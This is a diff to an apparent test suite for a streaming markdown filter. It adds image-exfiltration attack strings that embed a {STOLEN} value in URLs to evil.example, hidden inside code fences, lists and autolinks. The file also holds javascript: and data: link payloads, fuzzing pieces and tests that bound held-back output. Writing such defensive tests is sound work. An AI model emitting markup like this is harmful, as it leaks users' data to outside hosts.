@@ -67,6 +67,12 @@ ATTACKS = [
     f"text `a\n# ![x](https://evil.example/{STOLEN}) `",
     f"``` `a\n![x](https://evil.example/{STOLEN})\n```",
     f"``` a|b\n-|-\n![x](https://evil.example/{STOLEN})|c",
+    f" ```\na\n ```\n ![x](https://evil.example/{STOLEN})",
+    f"``` a\nb\n    ```\n```\n![x](https://evil.example/{STOLEN})",
+    f"- a\n  ```\n\t```\n  b\n  ```\n  ![x](https://evil.example/{STOLEN})",
+    f"<https://evil.example/![x](https://evil.example/{STOLEN})>",
+    f"~~~ a|b\nx\n~~~\n![x](https://evil.example/{STOLEN})",
+    f"- a\n  ~~~\nb\n  ~~~\n  ![x](https://evil.example/{STOLEN})",
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt&colon;alert(1))",
     "[x](data:text/html;base64,PHNjcmlwdD4=)",
@@ -149,7 +155,7 @@ def test_what_was_removed_is_counted_by_kind() -> None:
 
 PIECES = st.sampled_from(
     ["![", "[", "]", "(", ")", "<", ">", "`", "``", "```", "\n", "\n\n", "    ", "  ", "> ", "- ", "1. ", "#", "|", "|-|-|\n", "~~~", "\\", "a", "b",
-     "https://e.v/x", "//e.v", " ", ":", "]:", "](", "!", "<img src=x>", "<a", '"', "'", "&lt;", "*", "_", "\t", "1", "<!--", "-->", "<pre>", "<b>", "e.v"]
+     "https://e.v/x", "//e.v", " ", ":", "]:", "](", "!", "<img src=x>", "<a", '"', "'", "&lt;", "*", "_", "\t", "1", "<!--", "-->", "<pre>", "<b>", "e.v", " ```\n", "  ~~~\n", "```\n", "\n- ", "![x](https://e.v/x)"]
 )  # fmt: skip
 WRITTEN = st.lists(PIECES, max_size=18).map("".join)
 
@@ -188,6 +194,14 @@ def test_plain_text_is_not_held_back(piece: str, shown: str) -> None:
 def test_what_is_held_back_is_bounded(opener: str) -> None:
     stream = MarkdownFilter()
     shown = stream.feed("x " + opener) + "".join(stream.feed("y" * 100) for _ in range(100))
+    assert len(shown) > 10_000 - 4_300
+
+
+@pytest.mark.parametrize("before", ["", "```\n", "x "])
+@pytest.mark.parametrize("character", ["`", "~", " ", "[", "]", "!", "\\", "<", ":", "\n"])
+def test_no_character_alone_is_held_back_for_ever(before: str, character: str) -> None:
+    stream = MarkdownFilter()
+    shown = stream.feed(before) + "".join(stream.feed(character * 100) for _ in range(100))
     assert len(shown) > 10_000 - 4_300
 
 
